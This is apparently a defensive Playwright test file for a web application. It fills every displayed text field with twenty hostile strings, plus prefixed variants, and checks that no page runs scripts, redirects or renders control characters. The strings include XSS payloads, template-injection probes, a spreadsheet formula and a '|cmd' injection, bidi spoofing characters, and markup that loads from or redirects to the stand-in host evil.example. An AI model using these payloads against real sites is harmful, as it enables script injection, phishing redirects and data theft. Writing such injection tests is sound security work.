"""Hostile words in every text field that is shown again: nothing of it runs, and no page asks for more than it may."""

from __future__ import annotations

import os
from collections.abc import Iterator
from itertools import product

import pytest
from playwright.sync_api import Browser
from tests.pages.browsing import Visit, visit
from tests.pages.conftest import Served, serving
from tests.pages.filled import Filled, Words, filled
from tests.pages.places import GUEST, places

RUNS = "window.ran=1"
MARKUP = (
    f"<script>{RUNS}</script>",
    f"</textarea><script>{RUNS}</script>",
    f"\"><img src=x onerror='{RUNS}'>",
    f"'><svg/onload={RUNS}>",
    f"<iframe srcdoc='<script>parent.{RUNS}</script>'>",
    f"<a href=\"javascript:{RUNS}\" autofocus onfocus='{RUNS}'>a</a>",
    "<style>body{display:none}</style><link rel=stylesheet href=//evil.example/a.css>",
    "<base href=//evil.example/><meta http-equiv=refresh content='0;//evil.example'>",
    f"<form action=//evil.example><button hx-get=//evil.example hx-trigger=load hx-on:load='{RUNS}'>",
    f"</title></head><body onload={RUNS}>",
)
OTHER = (
    "{{ desk }}{% debug %}${7*7}#{7*7}<%= 7*7 %>",
    f"javascript:{RUNS}//",
    f"\";{RUNS};//';{RUNS};//`${{{RUNS}}}",
    "\u202egnp.exe\u202c \u2066hidden\u2069 \u200b\u200f",
    "\x1b[31mred\x1b[0m\x07\x08 bell",
    "مرحبا <b>غامق</b> שלום",
    '=HYPERLINK("//evil.example")',
    "@SUM(1)|cmd",
    "w" * 190,
    "&lt;script&gt; &#x3c;img src=x onerror=alert(1)&#x3e; %3Cscript%3E",
)
TWENTY = MARKUP + OTHER
#: What a string can hide behind, for the long run.
BEFORE = ("", "\"'>", "-->", "]]>", "</p></td>", "\u202e", "\\", "%0a", "</code></bdi>", "x ")


def in_turn(strings: tuple[str, ...], turn: int = 0) -> Words:
    """Each field gets the next string, beginning with another one in each turn; the turns give every field every string."""
    seen: dict[str, int] = {}

    def says(field: str) -> str:
        number = seen.setdefault(field, len(seen))
        return strings[(number + turn) % len(strings)]

    return says


#: What a page must not show as it came: control signs, and those that turn the direction of what follows.
SIGNS = (
    r"() => [...(document.body.innerText.matchAll(/.{0,30}[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f"
    r"\u202a-\u202e\u2066-\u2069].{0,20}/g))].map(one => JSON.stringify(one[0]))"
)


def wrong(here: Visit, path: str) -> Iterator[str]:
    """What hostile words did to one page."""
    page = here.page
    answer = page.goto(here.served / path, wait_until="load")
    if answer is None or answer.status not in {200, 401}:
        yield f"answers {answer and answer.status}"
    if page.evaluate("window.ran") is not None:
        yield "a script of the words ran"
    if page.evaluate("getComputedStyle(document.body).display") == "none":
        yield "a style of the words applies"
    if not page.url.startswith(here.served.address):
        yield f"leads to {page.url}"
    for signs in page.evaluate(SIGNS)[:1]:
        yield f"shows control signs as they came: {signs}"
    try:
        here.expect_clean()
    except AssertionError as error:
        yield str(error)[:500]
    here.faults.clear()
    here.requests.clear()


def expect_nothing_runs(browser: Browser, served: Served, words: Words) -> None:
    """A world of such words, and every page of it."""
    made: Filled = filled(words)
    found = []
    chosen = sorted({place for place in places(made).values() if not place[1].startswith(("signin/", "me/"))})
    for who in sorted({who for who, _ in chosen}):
        with visit(browser, served, made.world.people.get(who)) as here:
            if who == GUEST:
                here.to(made.link)
                here.page.fill("#code", made.code)
                here.page.click("main button")
            for path in [path for name, path in chosen if name == who]:
                found += [f"{path}: {one}" for one in wrong(here, path)]
    assert not found, "\n".join(found)


def test_nothing_of_twenty_hostile_strings_runs_on_any_page(browser: Browser, served: Served) -> None:
    turn = int(os.environ.get("OPENIRU_TEST_LOOKS", "0"))
    expect_nothing_runs(browser, served, in_turn(TWENTY, turn))


TWO_HUNDRED = tuple(f"{before}{string}"[:200] for before, string in product(BEFORE, TWENTY))


@pytest.mark.campaign
@pytest.mark.parametrize("turn", range(0, 200, 20))
def test_nothing_of_two_hundred_runs_on_any_page(
    browser: Browser, template: str, tmp_path_factory: pytest.TempPathFactory, turn: int
) -> None:
    with serving(template, tmp_path_factory) as served:
        expect_nothing_runs(browser, served, in_turn(TWO_HUNDRED, turn))
